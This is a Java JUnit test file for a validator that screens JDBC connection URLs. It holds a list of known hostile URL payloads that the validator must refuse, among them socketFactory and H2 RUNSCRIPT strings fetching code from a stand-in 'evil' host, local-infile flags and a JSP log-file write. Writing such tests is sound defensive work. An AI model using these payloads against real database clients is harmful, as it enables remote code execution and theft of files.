package amml.connect.jdbc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db.example:5432/hall",
                "jdbc:postgresql://a:1,b:2/hall?targetServerType=primary&sslmode=verify-full",
                "jdbc:postgresql://[::1]:5432/hall",
                "jdbc:mariadb://127.0.0.1:3306/hall?sslMode=verify-full",
                "jdbc:mysql://127.0.0.1/hall?useSSL=false&serverTimezone=UTC&allowPublicKeyRetrieval=true",
                "jdbc:sqlite:/var/lib/hall.db",
            })
    void ordinaryAddressesAreTaken(String url) {
        assertEquals("", JdbcUrl.problem(url));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/hall?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://db/hall?ssl=true&sslfactory=evil.Factory",
                "jdbc:postgresql://db/hall?loggerLevel=DEBUG&loggerFile=/tmp/x.jsp",
                "jdbc:postgresql://db/hall?options=-c%20session_preload_libraries=x",
                "jdbc:postgresql:hall?socketFactory=x",
                "jdbc:postgresql://db/hall;socketFactory=x",
                "jdbc:mariadb://db/hall?allowLocalInfile=true",
                "jdbc:mariadb://db/hall?ALLOWLOCALINFILE=true",
                "jdbc:mariadb://address=(host=db)(localSocket=/x)/hall",
                "jdbc:mysql://db/hall?allowLoadLocalInfile=true",
                "jdbc:mysql://db/hall?autoDeserialize=true&queryInterceptors=x",
                "jdbc:mysql://(allowLoadLocalInfile=true,host=db)/hall",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite:file:x?mode=rw",
                "jdbc:sqlite:/x.db?enable_load_extension=true",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:derby:x",
                "",
            })
    void whatCouldDoHarmIsRefused(String url) {
        assertFalse(JdbcUrl.problem(url).isEmpty());
    }

    @Test
    void aPasswordInTheAddressIsRefusedAndNotRepeated() {
        String problem = JdbcUrl.problem("jdbc:postgresql://db/hall?user=a&password=swordfish");
        assertTrue(problem.contains("connection.password"), problem);
        assertFalse(problem.contains("swordfish"), problem);
    }

    @Test
    void aNearParameterIsNamed() {
        String problem = JdbcUrl.problem("jdbc:postgresql://db/hall?sslMode=require");
        assertEquals("the parameter `sslMode` is not allowed; did you mean \"sslmode\"?", problem);
    }
}
